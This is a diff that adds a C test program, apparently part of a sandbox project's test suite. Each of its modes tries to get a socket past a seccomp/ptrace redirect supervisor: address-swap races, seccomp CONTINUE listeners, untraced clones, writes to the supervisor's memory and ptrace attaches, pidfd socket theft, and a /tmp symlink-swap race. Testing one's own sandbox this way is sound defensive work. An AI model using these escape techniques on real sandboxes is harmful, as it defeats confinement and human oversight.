@@ -1,0 +1,395 @@
+/* A hostile program: each mode tries one way to get a socket past the rules
+ * of the redirect it runs under. Bounded in attempts and time (alarm). Prints
+ * "key value" lines; the tests count what reaches a receiver outside.
+ *
+ *   flip CALL TYPE A B N      CALL: connect, bind, sendto, sendmsg, connect-send,
+ *                             fastopen, fastopen-msg; TYPE: tcp, udp, tcp6, udp6;
+ *                             A and B: addresses a second thread swaps between, as
+ *                             unix | inet:PORT | inet6:PORT | unspec:PORT.
+ *                             bind keeps what it could reach as a client, prints
+ *                             "escaped N" and waits for a line on stdin.
+ *   notify PORT               own seccomp filter with a listener that answers CONTINUE
+ *   untraced PORT             clone(CLONE_UNTRACED), the child traced by us, connects
+ *   v6-to-v4 PORT             an IPv6 UDP socket connected/sending to an IPv4 address
+ *   supervisor                open /proc/PPID/mem, process_vm_writev, PTRACE_SEIZE the parent
+ *   steal PID FD              pidfd_getfd another process's socket, send "stolen" on it
+ *   accept FD                 accept on an inherited listening socket
+ *   blackhole-symlink PORT VICTIM   as root: drop to nobody, then swap the supervisor's
+ *                             throw-away folder for a symlink to VICTIM while binding
+ */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/filter.h>
+#include <linux/seccomp.h>
+#include <netinet/in.h>
+#include <netinet/tcp.h>
+#include <poll.h>
+#include <pthread.h>
+#include <sched.h>
+#include <signal.h>
+#include <stddef.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#ifndef MSG_FASTOPEN
+#define MSG_FASTOPEN 0x20000000
+#endif
+
+static union {
+    struct sockaddr sa;
+    struct sockaddr_in in;
+    struct sockaddr_in6 in6;
+    struct sockaddr_un un;
+    char raw[128];
+} target, pattern[2];
+static socklen_t pattern_len;
+static volatile int stop_flipping;
+
+static int parse_address(const char *spec, int which)
+{
+    memset(&pattern[which], 0, sizeof pattern[which]);
+    if (strcmp(spec, "unix") == 0) {
+        pattern[which].un.sun_family = AF_UNIX;
+        strcpy(pattern[which].un.sun_path, "/nonexistent-redirect-attack");
+        return 0;
+    }
+    const char *colon = strchr(spec, ':');
+    if (!colon)
+        return -1;
+    int port = atoi(colon + 1);
+    if (strncmp(spec, "inet6:", 6) == 0) {
+        pattern[which].in6.sin6_family = AF_INET6;
+        pattern[which].in6.sin6_port = htons(port);
+        pattern[which].in6.sin6_addr = in6addr_loopback;
+    } else if (strncmp(spec, "inet:", 5) == 0 || strncmp(spec, "unspec:", 7) == 0) {
+        pattern[which].in.sin_family = spec[0] == 'u' ? AF_UNSPEC : AF_INET;
+        pattern[which].in.sin_port = htons(port);
+        pattern[which].in.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    } else {
+        return -1;
+    }
+    return 0;
+}
+
+static void *flipper(void *arg)
+{
+    (void)arg;
+    for (unsigned long i = 0; !stop_flipping; i++)
+        memcpy(&target, &pattern[i & 1], sizeof target);
+    return NULL;
+}
+
+static int socket_of(const char *type)
+{
+    int family = strchr(type, '6') ? AF_INET6 : AF_INET;
+    int stype = strncmp(type, "udp", 3) == 0 ? SOCK_DGRAM : SOCK_STREAM;
+    return socket(family, stype | SOCK_NONBLOCK, 0);
+}
+
+static int reachable(int port)
+{
+    /* Whether a real TCP listener answers on 127.0.0.1:port. */
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    int ok = connect(s, (struct sockaddr *)&a, sizeof a) == 0;
+    close(s);
+    return ok;
+}
+
+static int flip(int argc, char **argv)
+{
+    if (argc != 7 || parse_address(argv[4], 0) || parse_address(argv[5], 1)) {
+        fprintf(stderr, "usage: flip CALL TYPE A B N\n");
+        return 2;
+    }
+    const char *call = argv[2], *type = argv[3];
+    int n = atoi(argv[6]);
+    int bind_port = ntohs(pattern[1].in.sin_port);
+    pattern_len = sizeof(struct sockaddr_in6);
+    memcpy(&target, &pattern[0], sizeof target);
+    pthread_t t;
+    pthread_create(&t, NULL, flipper, NULL);
+    int ok = 0, escaped = 0;
+    for (int i = 0; i < n; i++) {
+        int s = socket_of(type);
+        long r;
+        char byte = 'x';
+        struct iovec iov = {&byte, 1};
+        struct msghdr msg = {.msg_name = &target, .msg_namelen = pattern_len, .msg_iov = &iov, .msg_iovlen = 1};
+        if (strcmp(call, "connect") == 0) {
+            r = connect(s, &target.sa, pattern_len);
+            r = r == 0 || errno == EINPROGRESS ? 0 : -1;
+        } else if (strcmp(call, "connect-send") == 0) {
+            r = connect(s, &target.sa, pattern_len);
+            if (r == 0)
+                r = send(s, &byte, 1, 0);
+        } else if (strcmp(call, "sendto") == 0) {
+            r = sendto(s, &byte, 1, 0, &target.sa, pattern_len);
+        } else if (strcmp(call, "sendmsg") == 0) {
+            r = sendmsg(s, &msg, 0);
+        } else if (strcmp(call, "fastopen") == 0) {
+            r = sendto(s, &byte, 1, MSG_FASTOPEN, &target.sa, pattern_len);
+            r = r >= 0 || errno == EINPROGRESS ? 0 : -1;
+        } else if (strcmp(call, "fastopen-msg") == 0) {
+            r = sendmsg(s, &msg, MSG_FASTOPEN);
+            r = r >= 0 || errno == EINPROGRESS ? 0 : -1;
+        } else if (strcmp(call, "bind") == 0) {
+            int one = 1;
+            setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
+            r = bind(s, &target.sa, pattern_len);
+            if (r == 0 && strncmp(type, "tcp", 3) == 0)
+                r = listen(s, 8);
+            if (r == 0 && strncmp(type, "tcp", 3) == 0 && reachable(bind_port)) {
+                escaped++;
+                continue; /* keep it: the test looks at it from outside */
+            }
+        } else {
+            fprintf(stderr, "unknown call %s\n", call);
+            return 2;
+        }
+        if (r >= 0)
+            ok++;
+        close(s);
+    }
+    stop_flipping = 1;
+    pthread_join(t, NULL);
+    printf("attempts %d\nok %d\nescaped %d\n", n, ok, escaped);
+    fflush(stdout);
+    if (strcmp(call, "bind") == 0) {
+        char line[8];
+        if (!fgets(line, sizeof line, stdin)) { /* hold the listeners until told */ }
+    }
+    return 0;
+}
+
+static struct sockaddr_in loopback(int port)
+{
+    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    return a;
+}
+
+static int connect_to(int port)
+{
+    struct sockaddr_in a = loopback(port);
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    int r = connect(s, (struct sockaddr *)&a, sizeof a);
+    int err = r == 0 ? 0 : errno;
+    close(s);
+    return err;
+}
+
+static int notify_fd = -1;
+
+static void *answer_continue(void *arg)
+{
+    (void)arg;
+    struct seccomp_notif req;
+    struct seccomp_notif_resp resp;
+    for (;;) {
+        memset(&req, 0, sizeof req);
+        if (ioctl(notify_fd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
+            return NULL;
+        memset(&resp, 0, sizeof resp);
+        resp.id = req.id;
+        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
+        ioctl(notify_fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
+    }
+}
+
+static int notify(int port)
+{
+    struct sock_filter code[] = {
+        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
+        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
+        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+    };
+    struct sock_fprog prog = {sizeof code / sizeof code[0], code};
+    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
+    notify_fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
+    printf("seccomp %d\n", notify_fd < 0 ? -errno : 0);
+    if (notify_fd >= 0) {
+        pthread_t t;
+        pthread_create(&t, NULL, answer_continue, NULL);
+    }
+    printf("connect %d\n", -connect_to(port));
+    return 0;
+}
+
+static int untraced(int port)
+{
+    long pid = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
+    if (pid < 0) {
+        printf("clone %d\n", -errno);
+        return 0;
+    }
+    if (pid == 0) {
+        raise(SIGSTOP);
+        _exit(connect_to(port) == 0 ? 0 : 1);
+    }
+    int status;
+    waitpid(pid, &status, WUNTRACED);
+    long seized = ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESECCOMP | PTRACE_O_EXITKILL);
+    printf("clone 0\nseize %d\n", seized < 0 ? -errno : 0);
+    kill(pid, SIGCONT);
+    for (;;) {
+        if (waitpid(pid, &status, 0) < 0 || WIFEXITED(status) || WIFSIGNALED(status))
+            break;
+        int sig = WSTOPSIG(status);
+        ptrace(PTRACE_CONT, pid, 0, (sig == SIGTRAP || sig == SIGSTOP || sig == SIGCONT) ? 0 : sig);
+    }
+    printf("child-connected %d\n", WIFEXITED(status) && WEXITSTATUS(status) == 0);
+    return 0;
+}
+
+static int v6_to_v4(int port)
+{
+    struct sockaddr_in a = loopback(port);
+    int s = socket(AF_INET6, SOCK_DGRAM, 0);
+    int r = sendto(s, "x", 1, 0, (struct sockaddr *)&a, sizeof a);
+    printf("sendto %d\n", r < 0 ? -errno : r);
+    close(s);
+    s = socket(AF_INET6, SOCK_DGRAM, 0);
+    r = connect(s, (struct sockaddr *)&a, sizeof a);
+    printf("connect %d\n", r < 0 ? -errno : r);
+    r = send(s, "y", 1, 0);
+    printf("send %d\n", r < 0 ? -errno : r);
+    close(s);
+    return 0;
+}
+
+static int supervisor(void)
+{
+    pid_t parent = getppid();
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%d/mem", parent);
+    int fd = open(path, O_RDWR);
+    printf("mem %d\n", fd < 0 ? -errno : 0);
+    char byte = 0;
+    struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
+    long r = process_vm_writev(parent, &local, 1, &remote, 1, 0);
+    printf("vm-write %d\n", r < 0 ? -errno : 0);
+    r = ptrace(PTRACE_SEIZE, parent, 0, 0);
+    printf("seize %d\n", r < 0 ? -errno : 0);
+    if (r == 0)
+        ptrace(PTRACE_DETACH, parent, 0, 0);
+    return 0;
+}
+
+static int steal(int pid, int fd)
+{
+    int pidfd = syscall(SYS_pidfd_open, pid, 0);
+    int got = pidfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pidfd, fd, 0);
+    printf("getfd %d\n", got < 0 ? -errno : 0);
+    if (got >= 0)
+        printf("send %ld\n", (long)send(got, "stolen\n", 7, 0));
+    return 0;
+}
+
+static int accept_on(int fd)
+{
+    int c = accept(fd, NULL, NULL);
+    printf("accept %d\n", c < 0 ? -errno : 0);
+    if (c >= 0)
+        send(c, "accepted\n", 9, 0);
+    return 0;
+}
+
+static int bh_port;
+static const char *victim;
+static volatile int swapped;
+
+static void *swap_folders(void *arg)
+{
+    (void)arg;
+    uid_t me = geteuid();
+    while (!stop_flipping) {
+        DIR *tmp = opendir("/tmp");
+        struct dirent *e;
+        while (tmp && (e = readdir(tmp))) {
+            char path[512], moved[600];
+            struct stat st;
+            if (strncmp(e->d_name, "redirect-", 9) != 0)
+                continue;
+            snprintf(path, sizeof path, "/tmp/%s", e->d_name);
+            if (lstat(path, &st) || !S_ISDIR(st.st_mode) || st.st_uid != me)
+                continue;
+            snprintf(moved, sizeof moved, "/tmp/moved-%s", e->d_name);
+            if (rename(path, moved) == 0 && symlink(victim, path) == 0)
+                swapped++;
+        }
+        if (tmp)
+            closedir(tmp);
+    }
+    return NULL;
+}
+
+static int blackhole_symlink(void)
+{
+    if (setgid(65534) || setuid(65534)) {
+        printf("setuid %d\n", -errno);
+        return 1;
+    }
+    pthread_t t;
+    pthread_create(&t, NULL, swap_folders, NULL);
+    struct sockaddr_in a = loopback(bh_port);
+    int first = socket(AF_INET, SOCK_STREAM, 0);
+    int r = bind(first, (struct sockaddr *)&a, sizeof a);
+    int failed = 0;
+    for (int i = 0; i < 200 && r == 0; i++) {
+        int s = socket(AF_INET, SOCK_STREAM, 0); /* the same path again: blackholed */
+        if (bind(s, (struct sockaddr *)&a, sizeof a) < 0)
+            failed++;
+        close(s);
+    }
+    stop_flipping = 1;
+    pthread_join(t, NULL);
+    printf("first %d\nswapped %d\nfailed %d\n", r, swapped, failed);
+    return 0;
+}
+
+int main(int argc, char **argv)
+{
+    alarm(60); /* bounded, whatever happens */
+    setvbuf(stdout, NULL, _IOLBF, 0);
+    if (argc < 2)
+        goto usage;
+    if (strcmp(argv[1], "flip") == 0)
+        return flip(argc, argv);
+    if (strcmp(argv[1], "notify") == 0 && argc == 3)
+        return notify(atoi(argv[2]));
+    if (strcmp(argv[1], "untraced") == 0 && argc == 3)
+        return untraced(atoi(argv[2]));
+    if (strcmp(argv[1], "v6-to-v4") == 0 && argc == 3)
+        return v6_to_v4(atoi(argv[2]));
+    if (strcmp(argv[1], "supervisor") == 0)
+        return supervisor();
+    if (strcmp(argv[1], "steal") == 0 && argc == 4)
+        return steal(atoi(argv[2]), atoi(argv[3]));
+    if (strcmp(argv[1], "accept") == 0 && argc == 3)
+        return accept_on(atoi(argv[2]));
+    if (strcmp(argv[1], "blackhole-symlink") == 0 && argc == 4) {
+        bh_port = atoi(argv[2]);
+        victim = argv[3];
+        return blackhole_symlink();
+    }
+usage:
+    fprintf(stderr, "usage: see the comment at the top of attacks.c\n");
+    return 2;
+}
